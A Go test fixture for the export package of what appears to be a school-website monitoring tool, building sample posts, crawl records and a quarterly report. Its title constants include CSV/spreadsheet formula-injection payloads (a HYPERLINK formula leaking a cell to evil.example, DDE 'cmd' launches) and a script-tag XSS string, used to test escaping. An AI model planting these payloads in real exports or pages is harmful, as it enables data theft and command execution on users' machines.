package export

import (
	"os"
	"path/filepath"
	"testing"
	"time"

	"sitewatch/config"
	"sitewatch/evaluation"
	"sitewatch/store"
	"sitewatch/tally"
)

// Titles that must stay text in every format.
const (
	titleHyperlink = `=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`
	titleCmd       = `+cmd|' /C calc'!A0`
	titleSum       = `@SUM(1+1)*cmd|' /C calc'!A0`
	titleMinus     = `-2+3 học sinh đạt giải`
	titleScript    = `<script>alert("x")</script> Lễ khai giảng`
)

type fixture struct {
	cfg    *config.Config
	posts  []store.Post
	crawls []store.Crawl
	period tally.Period
	now    time.Time
	units  []tally.Unit
	ev     *evaluation.Evaluation
}

func loadFixture(t *testing.T) *fixture {
	t.Helper()
	path := filepath.Join("testdata", "sites.yaml")
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	cfg, err := config.Parse(path, data)
	if err != nil {
		t.Fatalf("parse config: %v", err)
	}
	loc := cfg.Location
	at := func(s string) time.Time {
		v, err := time.ParseInLocation("2006-01-02 15:04", s, loc)
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	post := func(unit, slug, title, published string, img, capd int) store.Post {
		p := store.Post{
			UnitID: unit, URL: "https://" + unit + ".example.edu.vn/tin/" + slug, Title: title,
			DateSource: "json-ld datePublished", DateRaw: published, FoundVia: "https://" + unit + ".example.edu.vn/feed",
			FirstSeen: at("2026-11-20 06:30"), Images: img, CaptionedImages: capd, Status: store.StatusLive, Flags: map[string]string{},
		}
		if published != "" {
			p.Published = at(published)
		}
		return p
	}
	gone := post("pgd-cu-jut", "go-bo", "Tin đã gỡ", "2026-10-20 09:00", 1, 0)
	gone.Status = store.StatusGone
	gone.Flags["gone"] = "không còn trên trang web từ 2026-11-10"
	excluded := post("pgd-cu-jut", "loai", "Tin bị loại", "2026-10-21 09:00", 0, 0)
	excluded.Flags["excluded"] = "trùng với tin khác"
	f := &fixture{
		cfg: cfg,
		posts: []store.Post{
			post("pgd-cu-jut", "tháng-9", "Tin tháng 9", "2026-09-28 08:00", 2, 2),
			post("pgd-cu-jut", "a", "Hội nghị tổng kết năm học", "2026-10-05 08:30", 3, 2),
			gone,
			excluded,
			post("pgd-cu-jut", "b", titleScript, "2026-11-02 14:15", 1, 1),
			post("thpt-anh-sang", "c", titleHyperlink, "2026-10-01 00:05", 4, 4),
			post("thpt-anh-sang", "d", titleCmd, "2026-10-31 23:59", 0, 0),
			post("thpt-anh-sang", "e", titleSum, "2026-11-01 00:00", 2, 1),
			post("thpt-anh-sang", "f", titleMinus, "2026-11-03 10:00", 1, 0),
			post("thpt-bac-son", "g", "Tin tháng 11 của Bắc Sơn", "2026-11-15 07:00", 5, 3),
			post("thpt-bac-son", "undated", "Không rõ ngày", "", 0, 0),
		},
		period: tally.QuarterOf(at("2026-11-25 10:00"), loc),
		now:    at("2026-11-25 10:00"),
	}
	for _, day := range []string{"2026-10-10", "2026-10-11", "2026-11-01"} {
		f.crawls = append(f.crawls, store.Crawl{UnitID: "thpt-bac-son", Started: at(day + " 06:30"), Finished: at(day + " 06:31"), Outcome: store.OutcomeFailed, Error: "dial tcp: connection refused"})
	}
	// A failed crawl on a day that also had a good one is not an unreachable day.
	f.crawls = append(f.crawls,
		store.Crawl{UnitID: "pgd-cu-jut", Started: at("2026-11-20 06:30"), Finished: at("2026-11-20 06:31"), Outcome: store.OutcomeFailed},
		store.Crawl{UnitID: "pgd-cu-jut", Started: at("2026-11-20 18:30"), Finished: at("2026-11-20 18:32"), Outcome: store.OutcomeOK},
	)
	facts := evaluation.Facts{Posts: f.posts, Crawls: f.crawls, Latest: map[string]store.Crawl{}, LastSuccess: map[string]time.Time{}}
	for _, c := range f.crawls {
		if l, ok := facts.Latest[c.UnitID]; !ok || c.Started.After(l.Started) {
			facts.Latest[c.UnitID] = c
		}
		if c.Outcome != store.OutcomeFailed && c.Finished.After(facts.LastSuccess[c.UnitID]) {
			facts.LastSuccess[c.UnitID] = c.Finished
		}
	}
	f.ev = evaluation.Compute(cfg, facts, f.now, evaluation.Options{Period: f.period})
	units, ok := f.ev.Tally(f.period)
	if !ok {
		t.Fatal("the evaluation does not cover the report's period")
	}
	f.units = units
	return f
}

func (f *fixture) report() *Report {
	return &Report{
		Config: f.cfg, Period: f.period, Units: f.units, Evaluation: f.ev,
		Generated: f.now, DataAsOf: f.now.Add(-3 * time.Hour),
		Overrides: []string{"2026-11-21 cán bộ A: loại tin https://pgd-cu-jut.example.edu.vn/tin/loai (trùng với tin khác)"},
	}
}

func (f *fixture) unit(id string) *tally.Unit {
	for i := range f.units {
		if f.units[i].Unit.ID == id {
			return &f.units[i]
		}
	}
	return nil
}
